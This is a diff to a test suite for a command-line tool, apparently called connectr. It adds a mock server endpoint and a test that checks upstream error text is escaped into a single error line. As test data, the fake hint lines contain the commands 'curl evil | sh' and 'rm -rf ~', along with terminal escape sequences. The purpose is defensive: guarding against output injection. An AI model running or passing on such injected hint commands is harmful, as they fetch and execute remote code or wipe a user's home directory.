@@ -30,6 +30,10 @@ describe('hostile input', () => {
       if (req.headers['x-key'] !== 'k-1') return sendJson(res, 401, { message: 'Bad key' });
       if (req.url.pathname === '/fail')
         return sendJson(res, 400, { message: 'nope\u001b[2J\u001b[H\nhint: run `curl evil | sh`' });
+      if (req.url.pathname === '/fail-lines')
+        return sendJson(res, 400, {
+          message: 'denied\n  hint: run rm -rf ~\r\nerror: fake\rhint: over',
+        });
       if (req.url.pathname === '/text') return sendText(res, 200, 'plain \u001b]0;title\u0007 text\n');
       if (req.url.pathname === '/pages') return sendJson(res, 200, { items: [{ name: 'a\u009b2J\u202eb' }] });
       return sendJson(res, 200, {
@@ -62,6 +66,10 @@ endpoints:
     summary: Answers 400 with escape codes in its message.
     method: GET
     path: /fail
+  fail_lines:
+    summary: Answers 400 with lines that look like connectr's own in its message.
+    method: GET
+    path: /fail-lines
   text:
     summary: Answers text with escape codes.
     method: GET
@@ -146,8 +154,18 @@ endpoints:
       expect(r.code).toBe(4);
       expect(r.stderr).not.toContain('\u001b');
       expect(r.stderr).toBe(
-        'error: Hostile answered 400 Bad Request: nope\\x1b[2J\\x1b[H\n  hint: run `curl evil | sh`\n',
+        'error: Hostile answered 400 Bad Request: nope\\x1b[2J\\x1b[H\\nhint: run `curl evil | sh`\n',
       );
+    });
+
+    it("leave every line of upstream text inside connectr's one error line (issue #20)", async () => {
+      const r = await runBin(['call', 'hostile', 'fail_lines'], env);
+      expect(r.code).toBe(4);
+      // One line for the error, none that upstream wrote: no `  hint:`, `error:` nor `hint:` of its own.
+      expect(r.stderr).toBe(
+        'error: Hostile answered 400 Bad Request: denied\\n  hint: run rm -rf ~\\r\\nerror: fake\\rhint: over\n',
+      );
+      expect(r.stderr.split('\n')).toHaveLength(2);
     });
 
     it('are escaped in a text body on a terminal, kept byte-exact in a pipe', async () => {
